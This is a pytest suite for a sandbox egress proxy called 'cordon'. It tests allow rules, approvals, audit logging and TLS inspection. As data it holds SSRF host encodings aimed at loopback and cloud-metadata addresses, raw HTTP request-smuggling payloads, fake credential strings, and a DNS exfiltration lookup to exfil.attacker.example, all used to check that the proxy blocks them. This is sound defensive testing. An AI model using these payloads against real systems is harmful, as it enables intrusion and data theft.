# SPDX-License-Identifier: Apache-2.0
"""The egress engine through a real `cordon exec --net proxy`."""
import binascii
import json
import os
import signal
import subprocess
import time
from pathlib import Path

import pytest

from conftest import CORDON, run, sandbox_processes, wait_until
from upstream import Echo, Upstream

HERE = Path(__file__).resolve().parent


@pytest.fixture
def upstream():
    u = Upstream()
    yield u
    u.close()


@pytest.fixture
def echo():
    e = Echo()
    yield e
    e.close()


@pytest.fixture
def hosts(tmp_path, upstream):
    """Names for the tests, resolved by the engine's resolver."""
    f = tmp_path / "hosts"
    f.write_text("127.0.0.1 upstream.test\n"
                 "10.1.2.3 private.test\n"
                 "169.254.169.254 metadata.test\n"
                 "93.184.216.34 mixed.test\n"
                 "127.0.0.1 mixed.test\n"
                 "93.184.216.34 public.test\n")
    return f


class Egress:
    def __init__(self, tmp_path, upstream, hosts):
        self.tmp = tmp_path
        self.up = upstream
        self.hosts = hosts
        self.audit = tmp_path / "audit.jsonl"

    def opts(self, *extra, policy=None, private=True):
        o = ["--net", "proxy", "--audit-log", self.audit,
             "--ro", f"{HERE / 'sandbox_client.py'}:/t/client.py"]
        if private:
            o += ["--allow-private", f"127.0.0.1:{self.up.port}"]
        if policy is not None:
            p = self.tmp / "policy.yaml"
            p.write_text(policy)
            o += ["--policy", p]
        return o + list(extra)

    def run(self, *args, opts=(), timeout=60, **kw):
        env = dict(os.environ, CORDON_HOSTS_FILE=str(self.hosts))
        return run([CORDON, "exec", *opts, "--", *args], timeout=timeout, env=env, **kw)

    def client(self, *args, opts=(), **kw):
        return self.run("python3", "/t/client.py", *args, opts=opts, **kw)

    def url(self, path="/ok", host="upstream.test"):
        return f"http://{host}:{self.up.port}{path}"

    def entries(self):
        if not self.audit.exists():
            return []
        return [json.loads(l) for l in self.audit.read_text().splitlines()]


@pytest.fixture
def eg(tmp_path, upstream, hosts):
    return Egress(tmp_path, upstream, hosts)


def raw(eg, data, opts):
    return eg.client("raw", binascii.hexlify(data).decode(), opts=opts)


# ---------------------------------------------------------------- wiring

def test_proxy_environment_and_resolv_conf(eg):
    r = eg.run("sh", "-c", "env | sort; cat /etc/resolv.conf", opts=eg.opts())
    for var in ["HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "NO_PROXY",
                "http_proxy", "https_proxy", "all_proxy", "no_proxy"]:
        assert f"{var}=" in r.stdout, var
    assert "http_proxy=http://127.0.0.1:3128" in r.stdout
    assert "nameserver 127.0.0.1" in r.stdout


def test_allowed_request_with_curl(eg, upstream):
    r = eg.run("curl", "-sS", "-D-", eg.url("/ok?x=1"),
               opts=eg.opts("--allow", f"upstream.test:{upstream.port}"))
    assert r.returncode == 0, r.stderr
    assert "200 OK" in r.stdout and '"path": "/ok?x=1"' in r.stdout
    method, path, headers, body = upstream.log[-1]
    assert path == "/ok?x=1"
    assert "Proxy-Connection" not in headers and headers.get("Via") == "1.1 cordon"
    e = [x for x in eg.entries() if x.get("event_type") == "request" and x.get("method") == "GET"]
    assert e and e[-1]["hostname"] == "upstream.test" and e[-1]["status_code"] == 200
    assert e[-1]["response_size"] > 0 and "duration_ms" in e[-1]


def test_keepalive_and_chunked_and_big_bodies(eg, upstream):
    code = f"""
import http.client
c = http.client.HTTPConnection('127.0.0.1', 3128)
for p in ['/a', '/chunked', '/big', '/b']:
    c.request('GET', 'http://upstream.test:{upstream.port}' + p)
    r = c.getresponse(); b = r.read(); print(r.status, len(b))
c.request('POST', 'http://upstream.test:{upstream.port}/post', body=iter([b'abc', b'def'*5000]),
          headers={{'Transfer-Encoding': 'chunked'}}, encode_chunked=True)
r = c.getresponse(); print(r.status, len(r.read()))
"""
    r = eg.run("python3", "-c", code, opts=eg.opts("--allow", f"upstream.test:{upstream.port}"))
    lines = r.stdout.split("\n")
    assert lines[0].startswith("200 ") and lines[1] == "200 19"
    assert lines[2] == f"200 {4 << 20}"
    assert lines[4].startswith("200 ")
    assert upstream.log[-1][3] == b"abc" + b"def" * 5000


def test_domain_not_allowed(eg, upstream):
    r = eg.client("get", eg.url(host="public.test"), opts=eg.opts())
    out = r.stdout.split("\n")
    assert out[0] == "403" and out[1] == "domain"
    blocked = [x for x in eg.entries() if x.get("event_type") == "blocked"]
    assert blocked and "not allowed" in blocked[-1]["blocked_reason"]
    assert blocked[-1]["hostname"] == "public.test"


def test_port_not_allowed_and_connect_port(eg, upstream):
    r = eg.client("get", eg.url(), opts=eg.opts("--allow", "upstream.test"))
    assert r.stdout.split("\n")[:2] == ["403", "port"]
    r = eg.client("connect", "upstream.test:25", "hi", opts=eg.opts("--allow", "upstream.test"))
    assert "403" in r.stdout.split("\n")[0] and "port" in r.stdout


def test_connect_tunnel(eg, echo):
    eg.hosts.write_text(eg.hosts.read_text() + "127.0.0.1 echo.test\n")
    o = eg.opts("--allow", f"echo.test:{echo.port}", "--allow-private", f"127.0.0.1:{echo.port}")
    r = eg.client("connect", f"echo.test:{echo.port}", "hello:echo.test", opts=o)
    assert r.stdout.split("\n")[:2] == ["HTTP/1.1 200 Connection Established", "echoed"]
    kinds = [x["event_type"] for x in eg.entries()]
    assert kinds == ["tunnel_open", "request"], kinds


@pytest.mark.parametrize("msg,why", [
    ("hello:other.test", "names other.test, not the CONNECT host echo.test"),  # fronting
    ("hello:", "without a server name"),
    ("GET / HTTP/1.1\r\n\r\n", "not a TLS ClientHello"),  # another protocol
])
def test_unread_tunnel_must_carry_a_clienthello_for_its_host(eg, echo, msg, why):
    eg.hosts.write_text(eg.hosts.read_text() + "127.0.0.1 echo.test\n")
    o = eg.opts("--allow", f"echo.test:{echo.port}", "--allow-private", f"127.0.0.1:{echo.port}")
    r = eg.client("connect", f"echo.test:{echo.port}", msg, opts=o)
    lines = r.stdout.split("\n")
    assert lines[0] == "HTTP/1.1 200 Connection Established" and "echoed" != lines[1]
    blocked = [x for x in eg.entries() if x.get("event_type") == "blocked"]
    assert blocked and why in blocked[-1]["blocked_reason"], eg.entries()


def test_connect_to_the_plain_http_port_is_refused(eg):
    r = eg.client("connect", "public.test:80", "x", opts=eg.opts("--allow", "public.test"))
    assert "403" in r.stdout.split("\n")[0] and "port" in r.stdout


def test_rate_limit(eg, upstream):
    policy = f"""version: 1
limits:
  requests_per_minute: 3
domains:
  - name: upstream.test
    ports: [{upstream.port}]
"""
    code = f"""
import urllib.request, urllib.error
for i in range(5):
    try:
        r = urllib.request.urlopen('http://upstream.test:{upstream.port}/r%d' % i, timeout=10)
        print(r.status)
    except urllib.error.HTTPError as e:
        print(e.code, e.headers.get('Retry-After'))
"""
    r = eg.run("python3", "-c", code, opts=eg.opts(policy=policy))
    lines = r.stdout.split("\n")
    assert lines[:3] == ["200", "200", "200"]
    code, retry = lines[3].split()
    assert code == "429" and 1 <= int(retry) <= 60
    assert [x["event_type"] for x in eg.entries()].count("rate_limited") == 2


def test_method_rules(eg, upstream):
    policy = f"""version: 1
domains:
  - name: upstream.test
    ports: [{upstream.port}]
    methods: [GET, HEAD]
"""
    o = eg.opts(policy=policy)
    assert eg.client("get", eg.url(), opts=o).stdout.startswith("200")
    r = eg.client("post", eg.url("/p"), "data", opts=o)
    assert r.stdout.split("\n")[:2] == ["405", "method"]
    assert all(m != "POST" for m, *_ in upstream.log)


def test_audit_only_mode_lets_traffic_pass(eg, upstream):
    policy = "version: 1\nenforce: false\n"
    r = eg.client("get", eg.url(), opts=eg.opts(policy=policy))
    assert r.stdout.startswith("200")
    blocked = [x for x in eg.entries() if x.get("event_type") == "blocked"]
    assert blocked and blocked[0]["enforced"] is False
    req = [x for x in eg.entries() if x.get("event_type") == "request"]
    assert req and req[-1]["enforced"] is False


# ---------------------------------------------------------------- SSRF

@pytest.mark.parametrize("host", [
    "2130706433",          # decimal
    "0x7f000001",          # hex
    "0177.0.0.1",          # octal
    "127.1",               # short form
    "127.000.000.001",     # leading zeros
    "0x7f.0.0.1",
])
def test_non_canonical_numeric_hosts_are_refused(eg, host):
    r = eg.client("get", f"http://{host}/", opts=eg.opts())
    assert r.stdout.split("\n")[:2] == ["400", "host"], r.stdout


@pytest.mark.parametrize("host,addrs", [
    ("127.0.0.1", None),
    ("169.254.169.254", None),          # cloud metadata
    ("100.100.100.200", None),          # Alibaba metadata
    ("private.test", ["10.1.2.3"]),
    ("metadata.test", ["169.254.169.254"]),
    ("mixed.test", ["93.184.216.34", "127.0.0.1"]),  # one public, one loopback: rebinding bait
    ("cgnat.test", ["100.64.0.1"]),
    ("bench.test", ["198.18.0.1"]),
    ("mcast.test", ["224.0.0.1"]),
    ("v6loop.test", ["::1"]),
    ("v6mapped.test", ["::ffff:127.0.0.1"]),
    ("v6meta.test", ["::ffff:169.254.169.254"]),
    ("ec2v6.test", ["fd00:ec2::254"]),
    ("nat64.test", ["64:ff9b::a9fe:a9fe"]),       # NAT64 of 169.254.169.254
    ("sixto4.test", ["2002:7f00:1::"]),            # 6to4 of 127.0.0.1
    ("teredo.test", ["2001:0:4136:e378:8000:63bf:3fff:fdd2"]),  # Teredo client 192.0.2.45
    ("ula.test", ["fd12:3456::1"]),
    ("linklocal6.test", ["fe80::1"]),
])
def test_private_destinations_are_refused(eg, host, addrs):
    if addrs:
        eg.hosts.write_text(eg.hosts.read_text().replace(f" {host}\n", " unused.test\n") +
                            "".join(f"{a} {host}\n" for a in addrs))
    policy = f"version: 1\ndomains:\n  - name: '{host}'\n    ports: [80]\n"
    # the client must not bypass the proxy for loopback names
    o = eg.opts("--env", "no_proxy=", "--env", "NO_PROXY=", policy=policy, private=False)
    r = eg.client("get", f"http://{host}/", opts=o)
    assert r.stdout.split("\n")[:2] == ["403", "destination"], r.stdout + r.stderr
    blocked = [x for x in eg.entries() if x.get("event_type") == "blocked"]
    assert blocked and "address" in blocked[-1]["blocked_reason"]


def test_private_exception_is_exact(eg, upstream):
    o = eg.opts("--allow", f"upstream.test:{upstream.port}", private=False)
    r = eg.client("get", eg.url(), opts=o)
    assert r.stdout.split("\n")[:2] == ["403", "destination"]
    r = eg.client("get", eg.url(), opts=o + ["--allow-private", f"127.0.0.1:{upstream.port + 1}"])
    assert r.stdout.split("\n")[:2] == ["403", "destination"]
    r = eg.client("get", eg.url(), opts=o + ["--allow-private", f"127.0.0.1:{upstream.port}"])
    assert r.stdout.startswith("200")


# ---------------------------------------------------------------- smuggling

def H(port):
    return f"upstream.test:{port}".encode()


@pytest.mark.parametrize("name,data,code", [
    ("cl+te", b"POST http://%s/ HTTP/1.1\r\nHost: %s\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n", "400"),
    ("te list", b"POST http://%s/ HTTP/1.1\r\nHost: %s\r\nTransfer-Encoding: chunked, chunked\r\n\r\n0\r\n\r\n", "400"),
    ("te gzip", b"POST http://%s/ HTTP/1.1\r\nHost: %s\r\nTransfer-Encoding: gzip\r\n\r\n", "400"),
    ("dup cl", b"POST http://%s/ HTTP/1.1\r\nHost: %s\r\nContent-Length: 1\r\nContent-Length: 1\r\n\r\nx", "400"),
    ("obs-fold", b"GET http://%s/ HTTP/1.1\r\nHost: %s\r\nX-A: a\r\n b\r\n\r\n", "400"),
    ("bare lf", b"GET http://%s/ HTTP/1.1\nHost: %s\r\n\r\n", "400"),
    ("nul", b"GET http://%s/ HTTP/1.1\r\nHost: %s\r\nX-A: a\x00b\r\n\r\n", "400"),
    ("space colon", b"GET http://%s/ HTTP/1.1\r\nHost: %s\r\nX-A : b\r\n\r\n", "400"),
    ("host mismatch", b"GET http://%s/ HTTP/1.1\r\nHost: evil.example\r\n\r\n%s", "400"),
    ("origin form", b"GET / HTTP/1.1\r\nHost: %s\r\n\r\n%s", "400"),
])
def test_request_smuggling_is_refused(eg, upstream, name, data, code):
    if data.count(b"%s") == 2:
        data = data % (H(upstream.port), H(upstream.port))
    r = raw(eg, data, eg.opts("--allow", f"upstream.test:{upstream.port}"))
    assert r.stdout.split("\n")[0].split(" ")[1] == code, (name, r.stdout)
    assert not upstream.log


def test_oversize_head(eg, upstream):
    data = b"GET http://%s/ HTTP/1.1\r\nHost: %s\r\nX-Big: " % (H(upstream.port), H(upstream.port))
    data += b"a" * 20000 + b"\r\n\r\n"
    r = raw(eg, data, eg.opts("--allow", f"upstream.test:{upstream.port}"))
    assert r.stdout.split("\n")[0].split(" ")[1] == "431"


# ---------------------------------------------------------------- content

def fake_github_token():
    return "ghp_" + "Zx9Qw3Er5Ty7Ui1Op2As4Df6Gh8Jk0LmNbVc"


def test_credential_in_header_is_blocked(eg, upstream):
    tok = fake_github_token()
    r = eg.client("get", eg.url(), f"Authorization:token {tok}",
                  opts=eg.opts("--allow", f"upstream.test:{upstream.port}"))
    assert r.stdout.split("\n")[:2] == ["403", "credential"]
    leak = [x for x in eg.entries() if x.get("event_type") == "credential_leak"]
    assert leak and leak[0]["credential_patterns"]
    assert tok not in eg.audit.read_text()
    assert not upstream.log


def test_credential_split_across_chunks_is_blocked(eg, upstream):
    key = "AKIA" + "QWERTYUIOPASDFGH"
    code = f"""
import http.client
c = http.client.HTTPConnection('127.0.0.1', 3128)
parts = [b'x' * 3000 + b'key={key[:7]}', b'{key[7:]}&more', b'y' * 100]
c.request('POST', 'http://upstream.test:{upstream.port}/up', body=iter(parts),
          headers={{'Transfer-Encoding': 'chunked'}}, encode_chunked=True)
r = c.getresponse(); print(r.status, r.getheader('X-Cordon-Block'))
"""
    r = eg.run("python3", "-c", code, opts=eg.opts("--allow", f"upstream.test:{upstream.port}"))
    assert r.stdout.strip() == "403 credential", r.stdout + r.stderr
    assert all(key.encode() not in body for *_, body in upstream.log)
    assert key not in eg.audit.read_text()


# ---------------------------------------------------------------- approvals

def approval_policy(port, timeout=30):
    return f"""version: 1
approvals:
  timeout_seconds: {timeout}
domains:
  - name: upstream.test
    ports: [{port}]
    approval: required
"""


def start_held_post(eg, upstream, timeout=30):
    env = dict(os.environ, CORDON_HOSTS_FILE=str(eg.hosts))
    p = subprocess.Popen([CORDON, "exec", *map(str, eg.opts(policy=approval_policy(upstream.port, timeout))),
                          "--", "python3", "/t/client.py", "post", eg.url("/held"), "payload"],
                         stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env)
    return p


def pending(port=None):
    """Waiting requests; only this test's (its upstream's port) when given:
    other cordon runs on the machine list theirs on the same sockets, and an
    MCP approval has no port."""
    r = run([CORDON, "approvals", "list", "--json"])
    assert r.returncode == 0, r.stderr
    return [a for a in json.loads(r.stdout) if port is None or a.get("port") == port]


def test_approval_approve(eg, upstream):
    p = start_held_post(eg, upstream)
    assert wait_until(lambda: len(pending(upstream.port)) == 1, timeout=15)
    item = pending(upstream.port)[0]
    assert item["method"] == "POST" and item["host"] == "upstream.test" and item["path"] == "/held"
    assert not upstream.log  # held: nothing left yet
    r = run([CORDON, "approvals", "approve", item["id"], "--by", "tester"])
    assert r.returncode == 0, r.stderr
    out, err = p.communicate(timeout=30)
    assert out.startswith("200"), out + err
    assert upstream.log[-1][0] == "POST"
    decided = [x for x in eg.entries() if x.get("event_type") == "approval" and x.get("decision") == "approved"]
    assert decided and decided[0]["decided_by"] == "tester"
    assert "approval" in err  # the operator was told


def test_approval_reject_and_timeout(eg, upstream):
    p = start_held_post(eg, upstream)
    assert wait_until(lambda: len(pending(upstream.port)) == 1, timeout=15)
    run([CORDON, "approvals", "reject", pending(upstream.port)[0]["id"]])
    out, _ = p.communicate(timeout=30)
    assert out.split("\n")[:2] == ["403", "approval"]
    p = start_held_post(eg, upstream, timeout=1)
    out, _ = p.communicate(timeout=30)
    assert out.split("\n")[:2] == ["403", "approval"]
    assert not upstream.log
    decisions = [x.get("decision") for x in eg.entries() if x.get("event_type") == "approval"]
    assert "rejected" in decisions and "timeout" in decisions
    assert run([CORDON, "approvals", "approve", "apr_nonexistent"]).returncode == 1


# ---------------------------------------------------------------- DNS

def test_dns_filter(eg, upstream):
    o = eg.opts("--allow", "upstream.test")
    r = eg.client("dns", "upstream.test", opts=o)
    assert "rcode 0 answers 1 id-ok True" in r.stdout and "answer 127.0.0.1" in r.stdout
    r = eg.client("dns", "public.test", opts=o)
    assert "rcode 3 answers 0" in r.stdout
    r = eg.client("dns", "upstream.test", "TXT", opts=o)
    assert "rcode 5" in r.stdout
    # exfiltration through labels goes nowhere: NXDOMAIN, answered locally
    r = eg.client("dns", "c2VjcmV0LWRhdGEtaGVyZQ.exfil.attacker.example", opts=o)
    assert "rcode 3 answers 0" in r.stdout
    dns = [x for x in eg.entries() if str(x.get("method", "")).startswith("DNS")]
    assert len(dns) == 4
    assert {x["event_type"] for x in dns} == {"request", "blocked"}


def test_getaddrinfo_inside_uses_the_filter(eg):
    code = ("import socket\n"
            "print(socket.getaddrinfo('upstream.test', 80, socket.AF_INET)[0][4][0])\n"
            "try:\n  socket.getaddrinfo('blocked.example', 80)\nexcept socket.gaierror as e:\n  print('gaierror')\n")
    r = eg.run("python3", "-c", code, opts=eg.opts("--allow", "upstream.test"))
    assert r.stdout.split() == ["127.0.0.1", "gaierror"]


# ---------------------------------------------------------------- bypasses

def test_programs_ignoring_the_proxy_get_nowhere(eg, upstream):
    o = eg.opts("--allow", f"upstream.test:{upstream.port}")
    for host, port in [("127.0.0.1", upstream.port), ("1.1.1.1", 80), ("10.0.0.1", 443)]:
        r = eg.client("direct", host, str(port), opts=o)
        assert r.stdout.startswith("FAILED"), (host, r.stdout)
    assert not upstream.log


def test_killing_cordon_leaves_no_network(eg, upstream):
    env = dict(os.environ, CORDON_HOSTS_FILE=str(eg.hosts))
    p = subprocess.Popen([CORDON, "exec", *map(str, eg.opts("--allow", f"upstream.test:{upstream.port}")),
                          "--", "sh", "-c", "sleep 600"], stdout=subprocess.PIPE,
                         stderr=subprocess.PIPE, env=env)
    assert wait_until(lambda: len(sandbox_processes()) >= 2, timeout=10)
    p.kill()
    p.wait()
    p.stdout.close()
    p.stderr.close()
    assert wait_until(lambda: not sandbox_processes(), timeout=10)


# ---------------------------------------------------------------- audit, reload

def test_audit_chain_verifies_and_detects_tampering(eg, upstream):
    o = eg.opts("--allow", f"upstream.test:{upstream.port}")
    eg.client("get", eg.url(), opts=o)
    eg.client("get", eg.url(host="public.test"), opts=o)
    r = run([CORDON, "audit", "verify", eg.audit])
    assert r.returncode == 0 and "intact" in r.stdout
    lines = eg.audit.read_text().splitlines()
    assert len(lines) >= 2
    lines[0] = lines[0].replace('"GET"', '"PUT"', 1)
    eg.audit.write_text("\n".join(lines) + "\n")
    r = run([CORDON, "audit", "verify", "--json", eg.audit])
    assert r.returncode == 1
    assert json.loads(r.stdout)["bad_line"] == 1


def test_sighup_reloads_the_policy(eg, upstream):
    policy = eg.tmp / "policy.yaml"
    policy.write_text("version: 1\n")
    env = dict(os.environ, CORDON_HOSTS_FILE=str(eg.hosts))
    code = f"""
import time, urllib.request, urllib.error
def get():
    try:
        return urllib.request.urlopen('http://upstream.test:{upstream.port}/x', timeout=10).status
    except urllib.error.HTTPError as e:
        return e.code
print(get(), flush=True)
time.sleep(3)
print(get(), flush=True)
"""
    p = subprocess.Popen([CORDON, "exec", *map(str, eg.opts(private=True)), "--policy", str(policy),
                          "--", "python3", "-c", code], stdout=subprocess.PIPE,
                         stderr=subprocess.PIPE, text=True, env=env)
    first = p.stdout.readline().strip()
    policy.write_text(f"version: 1\ndomains:\n  - name: upstream.test\n    ports: [{upstream.port}]\n")
    p.send_signal(signal.SIGHUP)
    out, err = p.communicate(timeout=30)
    assert first == "403" and out.strip() == "200", err
    assert "reloaded" in err


# ---------------------------------------------------------------- TLS inspection

@pytest.fixture
def tls_upstream(tmp_path):
    """An HTTPS server for secure.test, with its own CA (trusted by cordon
    through --upstream-ca, not by the sandbox)."""
    import ssl
    import threading
    from http.server import ThreadingHTTPServer
    from upstream import Handler
    d = tmp_path / "pki"
    d.mkdir()
    def ossl(*a):
        r = subprocess.run(["openssl", *a], cwd=d, capture_output=True, text=True)
        assert r.returncode == 0, r.stderr
    ossl("req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes",
         "-keyout", "ca.key", "-out", "ca.pem", "-days", "2", "-subj", "/CN=cordon test CA")
    ossl("req", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes",
         "-keyout", "srv.key", "-out", "srv.csr", "-subj", "/CN=secure.test")
    (d / "ext").write_text("subjectAltName=DNS:secure.test\n")
    ossl("x509", "-req", "-in", "srv.csr", "-CA", "ca.pem", "-CAkey", "ca.key", "-CAcreateserial",
         "-out", "srv.pem", "-days", "1", "-extfile", "ext")
    httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.load_cert_chain(d / "srv.pem", d / "srv.key")
    httpd.socket = ctx.wrap_socket(httpd.socket, server_side=True)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    Handler.log.clear()
    yield httpd.server_address[1], d / "ca.pem"
    httpd.shutdown()
    httpd.server_close()


def inspect_policy(port):
    return f"""version: 1
domains:
  - name: secure.test
    ports: [{port}]
    methods: [GET, HEAD]
    inspect: true
"""


def test_tls_inspection_applies_method_rules_to_https(eg, tls_upstream):
    port, ca = tls_upstream
    eg.hosts.write_text(eg.hosts.read_text() + "127.0.0.1 secure.test\n")
    o = eg.opts("--upstream-ca", ca, "--allow-private", f"127.0.0.1:{port}",
                policy=inspect_policy(port), private=False)
    url = f"https://secure.test:{port}/inside?q=1"
    r = eg.client("get", url, opts=o)
    assert r.stdout.startswith("200"), r.stdout + r.stderr
    assert '"path": "/inside?q=1"' in r.stdout
    r = eg.run("curl", "-sS", "-o", "/dev/null", "-w", "%{http_code}", url, opts=o)
    assert r.stdout == "200", r.stdout + r.stderr
    r = eg.client("post", url, "body", opts=o)
    assert r.stdout.split("\n")[:2] == ["405", "method"], r.stdout + r.stderr
    inspected = [x for x in eg.entries() if x.get("inspected")]
    assert inspected and inspected[0]["method"] == "CONNECT"
    gets = [x for x in eg.entries() if x.get("event_type") == "request" and x.get("method") == "GET"]
    assert gets and gets[-1]["status_code"] == 200


def test_tls_inspection_finds_credentials_in_https_bodies(eg, tls_upstream):
    port, ca = tls_upstream
    eg.hosts.write_text(eg.hosts.read_text() + "127.0.0.1 secure.test\n")
    policy = inspect_policy(port).replace("methods: [GET, HEAD]", "methods: [GET, POST]")
    o = eg.opts("--upstream-ca", ca, "--allow-private", f"127.0.0.1:{port}", policy=policy,
                private=False)
    r = eg.client("post", f"https://secure.test:{port}/up", "token=" + fake_github_token(), opts=o)
    assert r.stdout.split("\n")[:2] == ["403", "credential"], r.stdout + r.stderr


def test_tls_inspection_verifies_the_upstream(eg, tls_upstream):
    port, _ = tls_upstream
    eg.hosts.write_text(eg.hosts.read_text() + "127.0.0.1 secure.test\n")
    o = eg.opts("--allow-private", f"127.0.0.1:{port}", policy=inspect_policy(port), private=False)
    r = eg.client("get", f"https://secure.test:{port}/x", opts=o)
    assert r.stdout.split("\n")[:2] == ["502", "upstream"], r.stdout + r.stderr
    errs = [x for x in eg.entries() if x.get("event_type") == "error"]
    assert errs and "certificate verify failed" in errs[-1]["blocked_reason"]


def test_method_rules_without_inspection_refuse_connect(eg, tls_upstream):
    port, ca = tls_upstream
    eg.hosts.write_text(eg.hosts.read_text() + "127.0.0.1 secure.test\n")
    policy = inspect_policy(port).replace("inspect: true", "inspect: false")
    o = eg.opts("--allow-private", f"127.0.0.1:{port}", policy=policy, private=False)
    r = eg.client("connect", f"secure.test:{port}", "x", opts=o)
    assert "403" in r.stdout.split("\n")[0] and "method" in r.stdout
